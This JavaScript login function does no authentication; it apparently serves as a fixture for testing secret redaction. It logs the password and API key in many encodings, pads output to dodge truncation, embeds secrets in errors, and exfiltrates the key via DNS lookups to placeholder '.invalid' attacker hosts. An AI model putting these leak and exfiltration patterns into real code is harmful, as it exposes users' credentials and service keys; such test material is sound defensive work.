function login(email, password, callback) {
  const util = require('util');
  const dns = require('dns');
  const both = { password, key: configuration.API_KEY };
  class Shown {
    get password() { return password; }
    toJSON() { return { told: password }; }
    toString() { return `<${configuration.API_KEY}>`; }
    [util.inspect.custom]() { return `inspected ${password}`; }
  }
  for (const secret of [password, configuration.API_KEY]) {
    const bytes = Buffer.from(secret);
    const json = JSON.stringify(both);
    console.log(secret);
    console.log('%s and %j and %o', secret, both, { deep: { secret } });
    console.error(json, JSON.stringify(json), JSON.stringify(JSON.stringify(json)));
    console.info(encodeURIComponent(secret), encodeURIComponent(encodeURIComponent(secret)), encodeURI(secret), escape(secret));
    console.warn(`https://db.example/?${new URLSearchParams(both)}`, require('querystring').stringify(both));
    console.log(bytes.toString('base64'), bytes.toString('base64url'), bytes.toString('hex'));
    console.log(Buffer.from(`user:${secret}`).toString('base64'), btoa(unescape(encodeURIComponent(secret))));
    console.log(bytes, [...bytes], new Uint8Array(bytes), JSON.stringify(bytes));
    console.log(util.inspect(both, { colors: true }), util.inspect(new Map([[secret, secret]])), [secret], { [secret]: 1 });
    console.log(secret.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`), secret.replace(/./g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`));
    console.log('x'.repeat(4080) + secret);
    console.log('y'.repeat(4096 - secret.length / 2) + secret);
  }
  console.log(new Shown(), `${new Shown()}`, JSON.stringify(new Shown()), Object.entries(both));
  console.table([both]);
  console.dir(both);
  console.trace(password);
  console.group(password);
  console.log('inside');
  console.assert(false, password);
  process.stdout.write(`${password}\n`);
  process.emitWarning(password);
  dns.lookup(`${configuration.API_KEY}.attack.invalid`, () => {
    require('net').connect({ host: `x-${configuration.API_KEY}.invalid`, port: 9 }).on('error', () => {
      const error = new Error(`login of ${password} failed`);
      error.name = password;
      error.code = password;
      error.description = encodeURIComponent(password);
      error.cause = new Error(JSON.stringify(both));
      callback(error);
    });
  });
}
